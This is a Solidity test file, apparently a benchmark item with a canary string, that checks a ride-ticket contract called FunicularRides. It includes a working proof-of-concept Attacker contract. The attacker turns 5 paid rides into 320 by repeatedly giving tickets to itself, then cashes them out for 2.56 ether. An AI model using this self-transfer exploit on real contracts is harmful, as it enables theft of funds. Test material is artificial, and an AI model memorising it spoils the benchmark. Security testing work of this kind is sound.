// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FunicularRides.sol";

// assay-canary-cc71c418-05f3-485c-b48d-cc324ea014d2

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Gives rides to itself.
contract Attacker {
    FunicularRides internal rides;

    constructor(FunicularRides rides_) {
        rides = rides_;
    }

    receive() external payable {}

    function run() external {
        uint64 have = 5;
        rides.buy{value: 0.05 ether}(have);
        for (uint256 i = 0; i < 6; ++i) {
            rides.give(address(this), have);
            have *= 2;
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant OMA = address(0x0A0A);
    address internal constant UWE = address(0x0B0B);

    FunicularRides internal rides;
    Attacker internal dodger;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_700_000_000);
        rides = new FunicularRides(0.01 ether, 0.3 ether);
        vm.deal(OMA, 5 ether);
        vm.deal(UWE, 5 ether);
        vm.prank(OMA);
        rides.buy{value: 4 ether}(400);
        dodger = new Attacker(rides);
        vm.deal(address(dodger), 0.05 ether);
    }

    function test_Regular() public {
        vm.prank(OMA);
        require(!_try(abi.encodeCall(rides.buy, (1))), "unpaid");
        vm.prank(OMA);
        rides.give(UWE, 50);
        require(rides.purseOf(OMA).singles == 350 && rides.purseOf(UWE).singles == 50, "given");
        vm.prank(UWE);
        require(!_try(abi.encodeCall(rides.give, (OMA, 51))), "more than there are");
        vm.prank(UWE);
        require(!_try(abi.encodeCall(rides.give, (address(0), 1))), "nobody");
        vm.prank(UWE);
        rides.buySeason{value: 0.3 ether}();
        rides.stamp(UWE);
        rides.stamp(OMA);
        require(rides.purseOf(UWE).seasonRides == 59 && rides.purseOf(UWE).singles == 50, "on the season");
        require(rides.purseOf(OMA).singles == 349 && rides.singlesOut() == 399, "a single");
        vm.prank(OMA);
        require(!_try(abi.encodeCall(rides.stamp, (OMA))), "not the conductor");
        vm.prank(OMA);
        rides.handBack(100);
        require(OMA.balance == 1.8 ether && rides.singlesOut() == 299, "four fifths");
        uint256 before = address(this).balance;
        rides.cashUp(0.5 ether);
        require(address(this).balance == before + 0.5 ether, "takings");
        require(!_try(abi.encodeCall(rides.cashUp, (0.1 ether))), "covered");
        require(booksAgree(), "books");
        vm.warp(block.timestamp + 121 days);
        rides.stamp(UWE);
        require(rides.purseOf(UWE).singles == 49, "season is over");

        rides.setConductor(UWE);
        require(rides.conductor() == UWE, "conductor");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok,) = address(rides).call(data);
    }

    /// No more singles in these purses than there are out.
    function booksAgree() public view returns (bool) {
        uint256 held = uint256(rides.purseOf(OMA).singles) + rides.purseOf(UWE).singles;
        return held + rides.purseOf(address(dodger)).singles <= rides.singlesOut();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The counter is the company's.
    function test_RefusesStrangers() public {
        refuses(UWE, FunicularRides.NotTheCompany.selector);
        rides.setConductor(UWE);
        refuses(UWE, FunicularRides.NotTheCompany.selector);
        rides.cashUp(0);
    }

    /// Rides that are none, too many, or not there.
    function test_RefusesRides() public {
        refuses(UWE, FunicularRides.NoRides.selector);
        rides.buy(0);
        vm.deal(OMA, 5 ether);
        refuses(OMA, abi.encodeWithSelector(FunicularRides.TooMany.selector, 501));
        rides.buy{value: 1.01 ether}(101);
        refuses(OMA, FunicularRides.NoRides.selector);
        rides.give(UWE, 0);
        refuses(UWE, FunicularRides.NoRides.selector);
        rides.give(OMA, 1);
        vm.prank(UWE);
        rides.buy{value: 2 ether}(200);
        refuses(UWE, abi.encodeWithSelector(FunicularRides.TooMany.selector, 501));
        rides.give(OMA, 101);
        vm.expectRevert(FunicularRides.NoRides.selector);
        rides.stamp(address(0xBEE));
        refuses(OMA, FunicularRides.NoRides.selector);
        rides.handBack(0);
        refuses(OMA, FunicularRides.NoRides.selector);
        rides.handBack(401);
    }

    /// One season at a time, at its fare, and ether to who takes it.
    function test_RefusesSeasons() public {
        refuses(UWE, abi.encodeWithSelector(FunicularRides.FareIs.selector, 0.3 ether));
        rides.buySeason{value: 0.2 ether}();
        vm.prank(UWE);
        rides.buySeason{value: 0.3 ether}();
        refuses(UWE, abi.encodeWithSelector(FunicularRides.SeasonRunning.selector, block.timestamp + 120 days));
        rides.buySeason{value: 0.3 ether}();
        vm.prank(OMA);
        rides.give(address(rides), 10);
        refuses(address(rides), FunicularRides.CounterShort.selector);
        rides.handBack(10);
    }

    function exploit() public {
        dodger.run();
    }

    function test_Exploit() public {
        exploit();
        require(!booksAgree() && rides.purseOf(address(dodger)).singles == 320, "five rides are five rides");
        vm.prank(address(dodger));
        rides.handBack(320);
        require(address(dodger).balance == 2.56 ether, "handed back");
    }

    function target() public view returns (address) {
        return address(rides);
    }

    function attacker() public view returns (address) {
        return address(dodger);
    }
}
